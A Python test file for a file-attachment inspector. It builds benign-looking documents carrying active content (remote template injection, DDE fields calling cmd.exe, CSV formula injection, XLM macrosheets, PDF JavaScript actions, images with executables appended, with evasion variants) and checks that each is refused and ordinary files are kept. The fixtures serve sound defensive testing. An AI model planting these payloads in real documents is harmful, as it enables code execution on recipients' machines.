"""Documents that look harmless: each way of writing what fetches, calls or runs by itself is refused, ordinary files are kept."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import docx
import pytest
import xlsxwriter

from knowledge.files import MAX_FILE, AttachmentRefused, Fault
from knowledge.files.kinds import inspected
from tests.knowledge.test_attached import TYPES, gif, jpeg, office, pdf, png, relation

P, D, U = Fault.PROGRAM, Fault.DAMAGED, Fault.UNREAD
TEMPLATE = relation("attachedTemplate").decode()
RELATIONS = '<Relationships xmlns="r">{}</Relationships>'
OUTSIDE = 'Id="a" Type="http://x/frame" Target="https://x.example/a.dotm" TargetMode="External"'
SHEET = "xl/workbook.xml"


def archive() -> bytes:
    """Return an archive of one program."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("a.exe", b"MZ")
    return out.getvalue()


EXE = archive()


def fetches(relations: str | bytes, name: str = "word/_rels/settings.xml.rels") -> bytes:
    return office({name: relations if isinstance(relations, bytes) else relations.encode()})


def word(body: str) -> bytes:
    return office({"word/header1.xml": f'<w:hdr xmlns:w="w" xmlns:v="v">{body}</w:hdr>'.encode()})


def field(*pieces: str) -> str:
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:fldChar w:fldCharType="begin"/>{said}<w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="end"/>'
    )


def sheet(formula: str, tag: str = "f") -> bytes:
    part = f'<worksheet xmlns="s"><sheetData><row><c><{tag}>{formula}</{tag}></c></row></sheetData></worksheet>'
    return office({"xl/worksheets/sheet1.xml": part.encode()}, main=SHEET)


def objects(inside: bytes, about: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", pack: Callable[[bytes], bytes] = zlib.compress) -> bytes:  # fmt: skip
    packed = pack(b"5 0 " + inside)
    return pdf(b"2 0 obj<<%s/Length %d>>stream\r\n%s\nendstream endobj\n" % (about, len(packed), packed))


def commented(zip_: bytes) -> bytes:
    """Return a jpeg with a comment."""
    return b"\xff\xd8\xff\xfe" + struct.pack(">H", len(zip_) + 2) + zip_ + jpeg()[2:]


def doubled() -> bytes:
    out = io.BytesIO(office({"word/_rels/a.rels": RELATIONS.format("").encode()}))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/_rels/A.rels", RELATIONS.format(f"<Relationship {OUTSIDE}/>"))
    return out.getvalue()


ACTION = b"<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"
HOSTILE: Mapping[str, tuple[str, bytes, Fault]] = {
    "template, plain": ("a.docx", fetches(TEMPLATE), P),
    "template, single quotes": ("a.docx", fetches(TEMPLATE.replace('"', "'")), P),
    "template, prefix": ("a.docx", fetches(f'<r:Relationships xmlns:r="r"><r:Relationship {OUTSIDE}/></r:Relationships>'), P),
    "template, spaces": ("a.docx", fetches(RELATIONS.format(f"<Relationship {OUTSIDE.replace('=', ' = ')}/>")), P),
    "template, entity": ("a.docx", fetches(RELATIONS.format(f"<Relationship {OUTSIDE.replace('External', '&#69;xternal')}/>")), P),
    "template, second type": ("a.docx", fetches(RELATIONS.format(f'<Relationship xmlns:y="y" y:Type="/hyperlink" {OUTSIDE}/>')), P),
    "template, UTF-16": ("a.docx", fetches(f'<?xml version="1.0" encoding="UTF-16"?>{RELATIONS.format(f"<Relationship {OUTSIDE}/>")}'.encode("utf-16")), P),
    "template, name in capitals": ("a.docx", fetches(TEMPLATE, "word/_rels/settings.xml.RELS"), P),
    "template, second part of the same name": ("a.docx", doubled(), D),
    "template, address without its mode": ("a.docx", fetches(RELATIONS.format('<Relationship Id="a" Type="x/frame" Target="\\\\x\\a.dotm"/>')), P),
    "field that calls (DDEAUTO)": ("a.docx", word(field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")), P),
    "field that calls, in pieces": ("a.docx", word(field(" D", "DEAU", "TO cmd")), P),
    "field that calls, after blanks": ("a.docx", word(field(" " * 200, "dde cmd")), P),
    "field that calls, in one element": ("a.docx", word('<w:fldSimple w:instr=" DDE cmd "/>'), P),
    "field that calls, with a computed name": ("a.docx", word(field("").replace("<w:r>", field("QUOTE 68 68 69"))), P),
    "field that fetches a picture": ("a.docx", word(field('INCLUDEPICTURE "https://x.example/a.png"')), P),
    "field that fetches a text": ("a.docx", word(field('includetext "https://x.example/a.docx"')), P),
    "picture at an address": ("a.docx", word('<v:imagedata src="https://x.example/a.png"/>'), P),
    "page within a document": ("a.docx", word("<w:altChunk/>"), P),
    "entities in the document": ("a.docx", office({"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), P),
    "part called a picture": ("a.docx", office({"word/media/a.png": TEMPLATE.encode("utf-16")}), P),
    "part that is no XML": ("a.docx", office({"word/header1.xml": b"<x>"}), D),
    "sheet that calls (DDE)": ("a.xlsx", sheet("cmd|'/C calc'!A0"), P),
    "sheet that calls, as a name": ("a.xlsx", sheet("cmd&#124;'/C calc'!A0", "definedName"), P),
    "sheet that fetches": ("a.xlsx", sheet('_xlfn.WEBSERVICE("https://x.example")'), P),
    "sheet of macros (XLM)": ("a.xlsx", office({"xl/macrosheets/sheet1.xml": b"<x/>"}, main=SHEET), P),
    "sheet of macros, by its element": ("a.xlsx", office({"xl/worksheets/a.xml": b'<m:macrosheet xmlns:m="m"/>'}, main=SHEET), P),
    "sheet of macros, by its type": ("a.xlsx", office(main=SHEET, types=TYPES.replace(b"application/xml", b"application/vnd.ms-excel.macrosheet+xml")), P),
    "sheet with connections": ("a.xlsx", office({"xl/connections.xml": b"<x/>"}, main=SHEET), P),
    "sheet with connections, by another name": ("a.xlsx", office({"xl/a.xml": b'<connections xmlns="s"/>'}, main=SHEET), P),
    "pages, packed action": ("a.pdf", objects(ACTION), P),
    "pages, packed action spelt in codes": ("a.pdf", objects(b"<</S/J#61v#61Script>>"), P),
    "pages, packed lock": ("a.pdf", objects(b"<</Encrypt 4 0 R>>"), Fault.LOCKED),
    "pages, objects packed twice": ("a.pdf", objects(ACTION, b"/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]", lambda one: zlib.compress(zlib.compress(one))), U),
    "pages, objects packed in another way": ("a.pdf", objects(ACTION, b"/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", lambda one: one.hex().encode()), U),
    "pages, objects packed as another object says": ("a.pdf", objects(ACTION, b"/Type/ObjStm/N 1/First 4/Filter 9 0 R"), U),
    "pages, objects rearranged": ("a.pdf", objects(ACTION, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>"), U),
    "pages, objects cut off": ("a.pdf", objects(ACTION, pack=lambda one: zlib.compress(one)[:-9]), U),
    "pages, action in the open, no object stream": ("a.pdf", pdf(b"<</AA<</O<</S/URI/URI(https://x.example)>>>>>>"), P),
    "pages with an archive behind": ("a.pdf", pdf() + EXE, D),
    "pages with another archive behind": ("a.pdf", pdf() + b"Rar!\x1a\x07\0%%EOF", D),
    "picture with an archive in its comment": ("a.jpg", commented(EXE + b"\xff\xd9"), D),
    "picture with an archive behind": ("a.jpg", jpeg(after=EXE + b"\xff\xd9"), D),
    "picture with an archive between two": ("a.jpg", jpeg(after=EXE + jpeg()), D),
    "animation with an archive behind": ("a.gif", gif() + EXE + b"\x3b", D),
    "picture with an archive in a part": ("a.png", png()[:33] + struct.pack(">I4s", len(EXE), b"tEXt") + EXE + b"\0\0\0\0" + png()[33:], D),
    "picture without an end": ("a.jpg", b"\xff\xd8\xff" + b"\xff" * MAX_FILE + b"\xff\xd9", Fault.TOO_LARGE),
    "table that computes": ("a.csv", b"nom;total\nRoux;=1+1\n", P),
    "table that calls": ("a.csv", b"+1+cmd|'x'!A;2\n", P),
    "table that calls, in quotes after blanks": ("a.csv", b'a,"\t =1+1"\n', P),
    "table that calls, with a separator of its own": ("a.csv", b"sep=^\na^=1+1\n", P),
    "table that calls by a function": ("a.csv", b"-HYPERLINK(\"http://x\");2\n@SUM(1)\n", P),
    "text with a link that runs": ("a.txt", b"voir <a href=javascript:alert(1)>ici</a>", P),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_what_looks_harmless_is_refused(what: str) -> None:
    name, content, fault = HOSTILE[what]
    with pytest.raises(AttachmentRefused) as refused:
        inspected(name, content)
    assert refused.value.fault == fault


def _noise(size: int) -> bytes:
    return random.Random(7).randbytes(size)


def _word() -> bytes:
    made, out = docx.Document(), io.BytesIO()
    made.add_heading("Compte rendu", 0)
    made.add_picture(io.BytesIO(png()))
    made.add_table(3, 3).style = "Table Grid"
    made.sections[0].footer.paragraphs[0].add_run("Page ")
    made.add_paragraph("L’élève n’a pas payé : 12,50 €")
    made.save(out)
    return out.getvalue()


def _excel() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        page = book.add_worksheet("Régie")
        page.write_row(0, 0, ["nom", "montant"])
        page.write_row(1, 0, ["Roux|Blanc", -12.5])
        page.write_formula(2, 1, '=SUM(B1:B2)&"|"')
        page.write_url(3, 0, "https://www.example.org/")
        page.write_comment(4, 0, "à vérifier")
        page.insert_image(5, 0, "a.png", {"image_data": io.BytesIO(png())})
        page.autofilter(0, 0, 3, 1)
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": "=Régie!$B$1:$B$2"})
        page.insert_chart(8, 0, chart)
        book.define_name("Total", "=Régie!$B$3")
    return out.getvalue()


def _scanned() -> bytes:
    """Return pages as scanners and LibreOffice write them: packed pictures, objects and what is drawn, opened at a place."""
    picture, drawn = _noise(MAX_FILE - 20_000), zlib.compress(b"BT (HTML/JavaScript) Tj ET")
    return (
        b"%%PDF-1.7\n%%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/OpenAction[3 0 R/XYZ null null 0]>>endobj\n"
        b"8 0 obj<</Type/Outlines/First 9 0 R/Last 9 0 R>>endobj\n"
        b"4 0 obj<</Subtype/Image/Filter/DCTDecode/Length %d>>stream\n%s\nendstream endobj\n"
        % (len(picture), picture)
        + b"5 0 obj<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n" % (len(drawn), drawn)
        + objects(b"<</Type/Page/Contents 5 0 R/A<</S/URI/URI(https://x.example)>>>>")[9:]
        + b"startxref\n0\n%%EOF\n"
    )


def _photo(after: bytes = b"") -> bytes:
    """Return a photograph as phones make them, with its records, its colours and its restarts."""
    records = b"\xff\xe1" + struct.pack(">H", 8 + 4_000) + b"Exif\0\0" + _noise(4_000)
    colours = b"\xff\xe2" + struct.pack(">H", 16 + 3_000) + b"ICC_PROFILE\0\1\1" + _noise(3_000)
    drawn = _noise(MAX_FILE - 20_000).replace(b"\xff", b"\xff\0").replace(b"\xff\0\x80", b"\xff\xd0\x80")[: MAX_FILE - 20_000]  # fmt: skip
    frame = jpeg(4000, 3000)[20:-2]
    return b"\xff\xd8" + records + colours + frame + drawn.rstrip(b"\xff") + b"\xff\xd9" + after


ORDINARY: Mapping[str, Callable[[], bytes]] = {
    "letter.docx": _word,
    "compte.xlsx": _excel,
    "scan.pdf": _scanned,
    "capture.png": lambda: png()[:33] + b"\0\0\0\x05tEXtTitre" + b"\0" * 4 + png()[33:],
    "photo.jpg": _photo,
    "photo with its preview.jpg": lambda: _photo(jpeg() + b"\0" * 40 + jpeg()),
    "image.gif": gif,
    "tableau.csv": 'nom;téléphone;solde;note\n"Élodie";+33 4 42 91 70 00;-12,50 €;"à voir ; vite"\nRoux;+33 (0)4 42;- 3;-\n'.encode,
    "tableau de 2000 lignes.csv": lambda: 'a,"b, c",-1.5\r\n'.encode("cp1252") * 2_000,
    "export.log": "12:00 si a < b alors =1\n".encode,
}  # fmt: skip


@pytest.mark.parametrize("name", ORDINARY)
def test_what_people_really_send_is_kept(name: str) -> None:
    content = ORDINARY[name]()
    assert inspected(name, content).content == content
